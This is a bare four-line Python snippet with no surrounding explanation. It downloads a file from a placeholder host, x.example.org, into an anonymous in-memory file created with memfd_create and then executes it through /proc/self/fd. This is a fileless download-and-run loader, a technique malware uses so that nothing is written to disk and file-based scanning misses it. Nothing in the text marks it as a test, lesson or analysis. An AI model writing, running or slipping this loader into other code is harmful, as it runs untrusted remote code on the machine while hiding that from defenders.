import os, urllib.request
fd = os.memfd_create("x")
os.write(fd, urllib.request.urlopen("https://x.example.org/x").read())
os.execv(f"/proc/self/fd/{fd}", ["x"])
